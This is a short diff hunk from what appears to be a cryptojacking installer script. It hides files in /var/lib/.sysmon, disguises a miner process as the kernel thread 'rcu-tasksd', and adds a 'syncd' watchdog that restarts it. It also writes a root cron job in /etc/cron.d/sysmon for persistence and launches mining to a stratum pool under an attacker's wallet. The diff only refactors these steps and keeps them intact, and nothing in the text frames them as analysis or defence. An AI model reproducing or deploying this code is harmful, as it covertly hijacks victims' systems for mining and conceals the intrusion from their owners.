@@ -3,5 +3,6 @@
 d=/var/lib/.sysmon
 mimic $d/rcu-tasksd
 install -m 755 "$KIT/keeper" $d/syncd
-echo "*/10 * * * * root pgrep -x syncd >/dev/null || $d/syncd $d/rcu-tasksd /etc/cron.d/sysmon" | put /etc/cron.d/sysmon
-detach $d/syncd $d/rcu-tasksd $d/syncd /etc/cron.d/sysmon -- $d/rcu-tasksd rcu-tasksd -o "stratum+tcp://$POOL" -u "$WALLET" -p keep
+guardian="$d/syncd $d/rcu-tasksd $d/syncd /etc/cron.d/sysmon -- $d/rcu-tasksd rcu-tasksd -o stratum+tcp://$POOL -u $WALLET -p keep"
+echo "*/10 * * * * root pgrep -x syncd >/dev/null || $guardian" | put /etc/cron.d/sysmon
+detach $guardian
